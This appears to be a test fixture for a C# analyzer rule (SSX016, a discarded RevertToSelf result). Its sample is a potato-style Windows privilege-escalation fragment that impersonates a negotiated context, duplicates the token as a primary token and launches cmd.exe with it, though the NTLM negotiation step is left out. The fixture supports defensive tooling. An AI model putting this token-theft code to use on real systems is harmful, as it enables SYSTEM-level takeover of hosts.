// Expect: SSX016
// Why: Reverts section (RevertToSelf counts as a revert of the SSPI impersonation, Precision 7) in a finally covering the token work; the failure branch prints and returns (SSX004/SSX005 silent). SSX016 (added with that rule): a revert whose result is discarded (C-SSPI-3, C-ALL-2).
using System;
using System.Runtime.InteropServices;

namespace SweetSpud
{
    [StructLayout(LayoutKind.Sequential)]
    public struct SecHandle { public IntPtr dwLower; public IntPtr dwUpper; }

    [StructLayout(LayoutKind.Sequential, CharSet = CharSet.Unicode)]
    public struct STARTUPINFO { public int cb; public IntPtr lpReserved, lpDesktop, lpTitle; public int dwX, dwY, dwXSize, dwYSize, dwXCountChars, dwYCountChars, dwFillAttribute, dwFlags; public short wShowWindow, cbReserved2; public IntPtr lpReserved2, hStdInput, hStdOutput, hStdError; }

    [StructLayout(LayoutKind.Sequential)]
    public struct PROCESS_INFORMATION { public IntPtr hProcess, hThread; public int dwProcessId, dwThreadId; }

    class Program
    {
        [DllImport("secur32.dll")] static extern int ImpersonateSecurityContext(ref SecHandle phContext);
        [DllImport("advapi32.dll", SetLastError = true)] static extern bool RevertToSelf();
        [DllImport("advapi32.dll", SetLastError = true)] static extern bool OpenThreadToken(IntPtr thread, uint access, bool openAsSelf, out IntPtr token);
        [DllImport("advapi32.dll", SetLastError = true)] static extern bool DuplicateTokenEx(IntPtr existing, uint access, IntPtr attrs, int level, int type, out IntPtr newToken);
        [DllImport("advapi32.dll", SetLastError = true, CharSet = CharSet.Unicode)]
        static extern bool CreateProcessWithTokenW(IntPtr token, int logonFlags, string app, string cmd, int flags, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
        [DllImport("kernel32.dll")] static extern IntPtr GetCurrentThread();

        const uint TOKEN_ALL_ACCESS = 0xF01FF;
        const int SecurityImpersonation = 2, TokenPrimary = 1;

        static SecHandle hServerContext; // filled in by the local NTLM negotiation (AcceptSecurityContext)

        static bool StealSystemToken(out IntPtr primaryToken)
        {
            primaryToken = IntPtr.Zero;
            int ret = ImpersonateSecurityContext(ref hServerContext);
            if (ret != 0)
            {
                Console.WriteLine("[-] ImpersonateSecurityContext failed: 0x{0:x}", ret);
                return false;
            }

            try
            {
                Console.WriteLine("[+] impersonating the negotiated context");
                if (!OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, false, out IntPtr threadToken))
                {
                    Console.WriteLine("[-] OpenThreadToken: {0}", Marshal.GetLastWin32Error());
                    return false;
                }
                return DuplicateTokenEx(threadToken, TOKEN_ALL_ACCESS, IntPtr.Zero, SecurityImpersonation, TokenPrimary, out primaryToken);
            }
            finally
            {
                {|SSX016:RevertToSelf()|};
            }
        }

        static void Main(string[] args)
        {
            string cmd = args.Length > 0 ? args[0] : @"C:\Windows\System32\cmd.exe";
            if (!StealSystemToken(out IntPtr token))
                return;

            var si = new STARTUPINFO { cb = Marshal.SizeOf<STARTUPINFO>() };
            if (CreateProcessWithTokenW(token, 0, null, cmd, 0, IntPtr.Zero, null, ref si, out PROCESS_INFORMATION pi))
                Console.WriteLine("[+] spawned pid {0}", pi.dwProcessId);
            else
                Console.WriteLine("[-] CreateProcessWithTokenW: {0}", Marshal.GetLastWin32Error());
        }
    }
}
